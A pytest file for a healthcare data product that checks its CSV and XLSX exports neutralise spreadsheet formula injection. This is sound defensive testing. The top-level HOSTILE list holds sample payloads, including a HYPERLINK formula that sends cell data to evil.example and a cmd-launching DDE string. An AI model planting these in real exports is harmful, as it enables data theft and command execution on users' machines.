"""No value from the data becomes a spreadsheet formula (CSV injection, OWASP): hostile site names, patient
names, commune names and codes written through every CSV and XLSX writer of the product, then read back.

CSV: no cell begins with ``=``, ``+``, ``-``, ``@``, TAB or CR unless it is a plain signed number; XLSX: no
cell has the formula type, and hostile text keeps its exact value.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import PatternFill
from typer.testing import CliRunner

from proxisante.cli import app
from proxisante.cli import measures as cli_measures
from proxisante.cli.common import console
from proxisante.spreadsheet import (
    is_hostile,
    neutralise,
    save_workbook,
    set_widths,
    sql_neutralised,
    write_csv,
    write_header,
)
from tests.lib.paths import TEST_DATA

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1;"cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DATA = TEST_DATA / "territory"


def _csv_cells(text: str, delimiter: str = ";") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def _assert_csv_safe(text: str, delimiter: str = ";", expected: int = 1) -> None:
    cells = _csv_cells(text, delimiter)
    assert not [c for c in cells if is_hostile(c)], [c for c in cells if is_hostile(c)][:5]
    quoted = [c for c in cells if c.startswith("'") and is_hostile(c[1:])]
    assert len(quoted) >= expected, "the hostile values were not written at all"


def _assert_workbook_safe(path: Path | io.BytesIO, hostile: list[str]) -> None:
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text in hostile:  # kept exactly (XML reads a CR as LF), shown as text
        assert any(isinstance(v, str) and text.replace("\r", "\n") in v for v in values), repr(text)
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and is_hostile(c.value))


# -- the rule ------------------------------------------------------------------------------------


def test_text_is_neutralised_and_numbers_stay_numbers() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for kept in ("-3", "+33612345678", "-2,5", "2.5", "Guéret", "", " =1", -3, 2.5, None):
        assert neutralise(kept) == kept
    frame = pd.DataFrame({"n": [-3, 4], "x": [-1.5, 2.0], "t": ["=1+1", "-3"]})
    out = io.StringIO()
    write_csv(frame, out, sep=";", index=False)
    assert out.getvalue().splitlines() == ["n;x;t", "-3;-1.5;'=1+1", "4;2.0;-3"]


@settings(max_examples=300, deadline=None)
@given(text=st.one_of(st.text(max_size=12), st.sampled_from(HOSTILE), st.from_regex(r"[=+\-@\t\r][0-9.,+-]{0,5}")))
def test_the_sql_rule_is_the_python_rule(text: str) -> None:
    con = duckdb.connect()
    got = con.execute(f"SELECT {sql_neutralised('$t')}", {"t": text}).fetchone()[0]
    assert got == neutralise(text)


def test_a_formula_the_product_did_not_write_is_saved_as_text(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(["=1+1", "@x", -3])
    book.active["D1"] = "=SUM(C1:C1)"
    save_workbook(book, tmp_path / "b.xlsx", formulas=[(book.active.title, "D1")])
    cells = {c.coordinate: c for c in load_workbook(tmp_path / "b.xlsx").active[1]}
    assert cells["A1"].data_type == "s" and cells["A1"].value == "=1+1" and cells["A1"].quotePrefix
    assert cells["C1"].value == -3 and cells["C1"].data_type == "n"
    assert cells["D1"].data_type == "f"


def test_the_shared_layout_bold_header_widths_and_frozen_panes(tmp_path: Path) -> None:
    """The layout the three workbooks share: the header (hostile labels neutralised too), widths, frozen panes."""
    book = Workbook()
    plain, report = book.active, book.create_sheet("rapport")
    write_header(plain, ["nom", "=1+1"], freeze="B2")
    plain.append(["a", 1])
    set_widths(plain, [48, 16])
    report["A1"] = "titre"
    write_header(report, ["id", "taux"], 3, freeze="A4", fill=PatternFill("solid", fgColor="DDE6F0"), wrap=True)
    save_workbook(book, tmp_path / "b.xlsx")
    plain, report = load_workbook(tmp_path / "b.xlsx").worksheets
    assert [[c.value for c in row] for row in plain.iter_rows()] == [["nom", "=1+1"], ["a", 1]]
    assert [c.font.b for c in plain[1]] == [True, True] and not plain["A2"].font.b and plain["B1"].quotePrefix
    widths = [plain.column_dimensions[c].width for c in "AB"]
    assert (plain.freeze_panes, widths) == ("B2", [48, 16])
    assert not plain["A1"].alignment.wrap_text and plain["A1"].fill.fill_type is None
    header = report[3]
    assert [c.value for c in header] == ["id", "taux"] and all(c.font.b for c in header)
    assert all(c.fill.fgColor.rgb == "00DDE6F0" and c.alignment.wrap_text for c in header)
    assert header[0].alignment.vertical == "center" and report.freeze_panes == "A4" and not report["A1"].font.b


# -- the command line ----------------------------------------------------------------------------


@pytest.fixture()
def runner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.setenv("PROXISANTE_HOME", str(tmp_path / "home"))
    for name in ("PROXISANTE_WAREHOUSE_URL", "PROXISANTE_KEY_FILE", "PROXISANTE_VAULT_PATH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(console, "_width", 200)
    return CliRunner()


def test_gaps_csv(runner: CliRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    import proxisante.measures.gaps as gaps

    n = len(HOSTILE)
    frame = pd.DataFrame({
        "person_id": range(n), "age": [-3] * n, "mt_rpps": HOSTILE, "measure_id": ["m"] * n, "action": HOSTILE,
        "evidence_date": [dt.date(2025, 1, 1)] * n, "due_since": [dt.date(2025, 2, 1)] * n,
    })  # fmt: skip
    monkeypatch.setattr(gaps, "care_gaps", lambda *a, **k: frame)
    monkeypatch.setattr(gaps, "nominative", lambda f, *a, **k: f.assign(family_name=HOSTILE, given_names=HOSTILE))
    monkeypatch.setattr(cli_measures, "check_data", lambda *a, **k: None)  # the engines are the fakes above
    args = ["gaps", "--par-action", "--period", "2025", "--format", "csv", "--nominative", "--reader", "moi"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    _assert_csv_safe(result.output, expected=3 * n)
    assert ";-3;" in result.output  # a number stays a number


def test_measures_run_csv(runner: CliRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    import proxisante.measures.results as results

    class Result:
        table = pd.DataFrame(
            {
                "measure_id": HOSTILE,
                "provider": HOSTILE,
                **dict.fromkeys(("rate", "ci_low", "ci_high"), [-0.5] * len(HOSTILE)),
            }
        )

    monkeypatch.setattr(results, "run", lambda *a, **k: Result())
    monkeypatch.setattr(cli_measures, "check_data", lambda *a, **k: None)  # the engine is the fake above
    result = runner.invoke(app, ["measures", "run", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_csv_safe(result.output, expected=2 * len(HOSTILE))
    assert ";-50,0;" in result.output  # a number stays a number (a rate, shown in %)


def test_territory_csv(runner: CliRunner, tmp_path: Path) -> None:
    reference = pd.read_csv(DATA / "communes-23-87.csv", dtype=str)
    creuse = reference.index[reference.departement == "23"][: len(HOSTILE)]
    reference.loc[creuse, "name"] = HOSTILE
    path = tmp_path / "communes.csv"
    reference.to_csv(path, index=False, lineterminator="\r\n")  # a CR inside a name is quoted
    result = runner.invoke(app, ["territoire", "apl", "--departement", "23", "--referentiel", str(path),
                                 "--format", "csv"])  # fmt: skip
    assert result.exit_code == 0, result.output
    _assert_csv_safe(result.output, expected=len(HOSTILE))


# -- OMOP exports and research extracts ----------------------------------------------------------


@pytest.fixture()
def hostile_installation(tmp_path: Path):
    from proxisante.identity import IdentityVault, Pseudonymiser
    from proxisante.installation import Installation
    from proxisante.settings import Settings
    from proxisante.warehouse.connection import Warehouse

    warehouse = Warehouse.connect("duckdb://")
    inst = Installation(Settings(home=tmp_path / "home"), warehouse, IdentityVault(tmp_path / "vault.duckdb"),
                        Pseudonymiser(b"k" * 32))  # fmt: skip
    con = warehouse.duckdb
    con.execute("INSERT INTO location (location_id, location_source_value, county, city) VALUES (1, '23001', '23', ?)",
                [HOSTILE[0]])  # fmt: skip
    for n, name in enumerate(HOSTILE):
        con.execute("INSERT INTO care_site (care_site_id, care_site_name, care_site_source_value) VALUES (?, ?, ?)",
                    [n + 1, name, name])  # fmt: skip
    for n in range(12):
        con.execute(
            "INSERT INTO person (person_id, gender_concept_id, year_of_birth, race_concept_id, ethnicity_concept_id, "
            "location_id, person_source_value) VALUES (?, 8532, 1970, 0, 0, 1, ?)",
            [100 + n, HOSTILE[n % len(HOSTILE)]],
        )
        con.execute(
            "INSERT INTO observation_period VALUES (?, ?, DATE '2023-01-01', DATE '2024-06-30', 32817, NULL)",
            [100 + n, 100 + n],
        )
        con.execute(
            "INSERT INTO condition_occurrence (condition_occurrence_id, person_id, condition_concept_id, "
            "condition_start_date, condition_type_concept_id, condition_source_value, condition_status_source_value) "
            "VALUES (?, ?, 0, DATE '2024-01-01', 32817, ?, ?)",
            [500 + n, 100 + n, HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 1) % len(HOSTILE)]],
        )
    yield inst
    warehouse.close()


def test_omop_export_csv(hostile_installation, tmp_path: Path) -> None:
    from proxisante.research.export import ExportOptions, export_omop

    out = tmp_path / "omop"
    export_omop(hostile_installation.warehouse, out, ExportOptions(vocabulary=False))
    text = "".join((out / f"{t}.csv").read_text(encoding="utf-8") for t in ("care_site", "condition_occurrence"))
    _assert_csv_safe(text, delimiter=",", expected=3 * len(HOSTILE))
    for path in out.glob("*.csv"):
        _assert_csv_safe(path.read_text(encoding="utf-8"), delimiter=",", expected=0)


def test_research_extract_csv(hostile_installation, tmp_path: Path) -> None:
    from proxisante.research.extract import extract
    from proxisante.research.projects import declare

    spec = {
        "id": "hostile", "title": "Injection", "purpose": "Vérifier les extraits face aux formules.",
        "tables": ["condition_occurrence", "care_site"], "period": {"start": "2023-01-01", "end": "2024-12-31"},
        "approval": {"body": "CNIL", "reference": "MR-004 n° 1"}, "k": 2, "vocabulary": False,
    }  # fmt: skip
    path = tmp_path / "p.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    declare(hostile_installation.settings.home_dir, path, by="dpo")
    out = tmp_path / "extrait"
    extract(hostile_installation, "hostile", out, by="chercheur")
    text = "".join((out / f"{t}.csv").read_text(encoding="utf-8") for t in ("care_site", "condition_occurrence"))
    _assert_csv_safe(text, delimiter=",", expected=3 * len(HOSTILE))
    for path in out.glob("*.csv"):
        _assert_csv_safe(path.read_text(encoding="utf-8"), delimiter=",", expected=0)


# -- workbooks -----------------------------------------------------------------------------------


def _hostile_report():
    from proxisante.reporting import model as m

    indicator = m.Indicator(
        id=HOSTILE[0], label=HOSTILE[1], short_label=HOSTILE[2], group=HOSTILE[3], programme=[HOSTILE[4]],
        scoring="proportion", direction="higher", denominator=40, exclusions=0, numerator=-3, eligible=40,
        rate=0.5, ci_low=0.4, ci_high=0.6, reportable=True, masked=None, masked_counts={},
        objective_intermediate=None, objective_target=None, status=HOSTILE[5], evolution=HOSTILE[6], trend=[],
    )  # fmt: skip
    columns = [m.Column("label", "catégorie", "text"), m.Column("n", "patients", "count")]
    rows = [m.Row({"label": h, "n": 12}) for h in HOSTILE]
    table = m.Table("panel_composition", HOSTILE[0], columns, rows, HOSTILE[1])
    economics = m.Economics(2025, HOSTILE[0], True, 10, 1, [m.EconomicModel("acte", HOSTILE[2], 1.0, 2.0, -1.0,
                            None, -2.0, 0.5, 0.3)], HOSTILE[3])  # fmt: skip
    return m.Report(
        structure=m.Structure(HOSTILE[0], tuple(m.Site(h, h, h) for h in HOSTILE)),
        period=m.PeriodInfo("2025", dt.date(2025, 1, 1), dt.date(2025, 12, 31)), previous_periods=[HOSTILE[4]],
        generated_at=dt.datetime(2026, 1, 1), disclosure=m.Disclosure(10, True, "< 10", "secret", "x"),
        objection=m.Objection(True, HOSTILE[5]), panel=[table], activity=[], indicators=[indicator],
        economics=economics, notes=HOSTILE,
    )  # fmt: skip


def test_report_workbook() -> None:
    from proxisante.reporting.render_xlsx import render_xlsx

    _assert_workbook_safe(io.BytesIO(render_xlsx(_hostile_report())), HOSTILE)


def test_economics_workbooks(tmp_path: Path) -> None:
    from proxisante.economics.costs import load_costs
    from proxisante.economics.profile_files import EXAMPLE_PROFILE, load_profile, write_profile_xlsx
    from proxisante.economics.uncertainty import simulate
    from proxisante.economics.workbook import write_workbook

    profile = load_profile(EXAMPLE_PROFILE).model_copy(update={"centre": HOSTILE[0], "notes": HOSTILE})
    write_profile_xlsx(profile, tmp_path / "profil.xlsx")
    _assert_workbook_safe(tmp_path / "profil.xlsx", HOSTILE)
    assert load_profile(tmp_path / "profil.xlsx").notes == [h.strip() for h in HOSTILE]  # read back (trimmed)
    write_workbook(simulate(profile, load_costs(), [2025], draws=20), tmp_path / "eco.xlsx")
    _assert_workbook_safe(tmp_path / "eco.xlsx", HOSTILE[:1])
